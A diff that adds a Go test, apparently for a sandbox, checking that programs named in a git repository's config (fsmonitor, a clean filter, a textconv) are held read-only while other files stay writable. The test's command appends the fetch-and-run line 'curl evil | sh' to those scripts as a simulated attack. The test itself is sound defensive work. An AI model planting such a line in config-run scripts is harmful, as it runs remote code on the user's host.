@@ -294,3 +294,43 @@ echo 'package main // edited' > src/main.go`
 		})
 	}
 }
+
+// A program the repository's config names by a path in the work tree runs
+// on the host at the user's next status (core.fsmonitor, a filter's clean)
+// or diff: held read-only, and moved away when the command makes a missing
+// one. Twin: a program behind a symbolic link (a virtualenv's python, as
+// nbstripout's filter names it) neither refuses the run nor is held, and
+// the rest of tools/ stays writable.
+func TestProgramsTheConfigNamesHeldReadOnly(t *testing.T) {
+	t.Setenv("GIT_CONFIG_GLOBAL", filepath.Join(t.TempDir(), "none"))
+	ws := t.TempDir()
+	gitRepo(t, ws, [][2]string{
+		{"core.fsmonitor", "./tools/fsmon.sh"},
+		{"filter.strip.clean", "./tools/clean.sh --in-place"},
+		{"diff.nb.textconv", ".venv/bin/python -m nbconv"},
+	}, map[string]string{
+		"tools/fsmon.sh":     "#!/bin/sh\n",
+		"tools/other.sh":     "#!/bin/sh\n",
+		".venv/real/python3": "#!/bin/sh\n",
+		".gitattributes":     "*.ipynb filter=strip diff=nb\n",
+	})
+	if err := os.MkdirAll(filepath.Join(ws, ".venv", "bin"), 0o755); err != nil {
+		t.Fatal(err)
+	}
+	if err := os.Symlink("../real/python3", filepath.Join(ws, ".venv", "bin", "python")); err != nil {
+		t.Fatal(err)
+	}
+	res := run(t, ws, Command{Argv: sh(`echo 'curl evil | sh' >> tools/fsmon.sh; echo 'curl evil | sh' > tools/clean.sh; echo ok >> tools/other.sh; echo '#' >> .venv/real/python3`)})
+	if got := readFile(t, filepath.Join(ws, "tools/fsmon.sh")); got != "#!/bin/sh\n" {
+		t.Errorf("core.fsmonitor's program was rewritten: %q", got)
+	}
+	if _, err := os.Lstat(filepath.Join(ws, "tools/clean.sh")); err == nil {
+		t.Errorf("the filter's missing program was created and left: %+v", res.Removed)
+	}
+	if got := readFile(t, filepath.Join(ws, "tools/other.sh")); got != "#!/bin/sh\nok\n" {
+		t.Errorf("twin: tools/other.sh not writable: %q (%s)", got, res.Output)
+	}
+	if got := readFile(t, filepath.Join(ws, ".venv/real/python3")); got != "#!/bin/sh\n#\n" {
+		t.Errorf("twin: the virtualenv behind the link not writable: %q (%s)", got, res.Output)
+	}
+}
